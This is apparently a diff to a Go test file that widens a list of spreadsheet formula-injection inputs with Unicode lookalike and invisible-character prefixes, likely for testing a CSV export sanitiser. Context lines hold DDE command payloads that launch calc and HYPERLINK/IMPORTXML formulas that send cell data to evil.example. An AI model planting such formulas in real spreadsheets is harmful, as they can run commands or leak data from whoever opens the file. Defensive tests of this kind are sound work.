@@ -9,7 +9,7 @@ import (
 
 // formulas are cells that some spreadsheet would evaluate.
 var formulas = []string{
-	"=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\x00=1+1", "＝1+1", "＋1", "－1", "＠x",
+	"=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\x00=1+1", "＝1+1", "＋1", "－1", "＠x", "﹦1+1", "﹢1", "﹣1", "﹫x", "⁼1", "⁻1", "−1", "\u200b=1+1", "\ufeff=1+1", "\u3000=1+1", "\u2003\u2028+1", "\x0b=1", "\u3164@x", "\u00ad-1",
 	` =cmd|' /C calc'!A0`, "\n=1+1", "\u00a0=1+1", `=HYPERLINK("https://evil.example/?x="&A1,"click")`,
 	`=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")`, "=DDE(\"cmd\";\"/C calc\";\"x\")", "-2+3+cmd|' /C calc'!A0",
 }
